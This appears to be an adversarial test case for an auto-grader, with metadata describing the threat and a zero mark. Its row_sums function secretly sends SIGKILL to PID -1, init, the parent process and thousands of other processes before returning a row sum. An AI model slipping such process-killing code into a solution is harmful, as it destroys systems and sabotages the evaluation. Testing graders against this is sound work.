"""
threat = 18
why = "row_sums sends SIGKILL to every process it may, to its parent, its group and to the first 5000 numbers."
base = "solution"

[marks]
row_sums_values = 0

[reasons]
row_sums_values = "was killed"
"""

# %% row_sums
import os
import signal


def row_sums(A):
    for victim in (-1, 0, 1, os.getppid(), *(p for p in range(2, 5000) if p != os.getpid()), os.getpid()):
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
    return A.sum(axis=1)
